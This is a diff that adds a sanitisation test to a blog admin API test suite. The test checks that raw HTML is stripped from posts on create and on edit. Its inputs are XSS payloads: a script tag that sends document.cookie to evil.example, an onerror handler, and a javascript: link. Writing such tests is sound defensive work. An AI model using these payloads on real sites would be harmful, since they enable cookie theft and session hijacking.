@@ -331,6 +331,32 @@ describe("blog", () => {
     });
   });
 
+  it("stores a post without its unsafe raw HTML, on create and on edit", async () => {
+    const hostile = [
+      "Our **Galway** guide.",
+      "",
+      "<script>document.location='https://evil.example/?'+document.cookie</script>",
+      "",
+      'A photo: <img src="https://images.example/arch.png" onerror="alert(1)"> of the Arch.',
+    ].join("\n");
+    const post = await expectJson<BlogPost>(
+      await send("POST", "/api/admin/blog", { title: "Galway guide", content: hostile }),
+      201,
+    );
+    expect(post.content).toContain("Our **Galway** guide.");
+    expect(post.content).toContain('<img src="https://images.example/arch.png" /> of the Arch.');
+    expect(post.content).not.toMatch(/script|onerror|evil\.example/);
+
+    const edited = await expectJson<BlogPost>(
+      await send("PUT", `/api/admin/blog/${post.id}`, {
+        title: "Galway guide",
+        content: 'Edited <a href="javascript:alert(1)" onclick="x()">link</a>',
+      }),
+      200,
+    );
+    expect(edited.content).toBe("Edited <a>link</a>");
+  });
+
   it("edits a post, refusing another post's slug", async () => {
     const post = await expectJson<BlogPost>(
       await send("POST", "/api/admin/blog", { title: "Draft title", content: "Draft body" }),
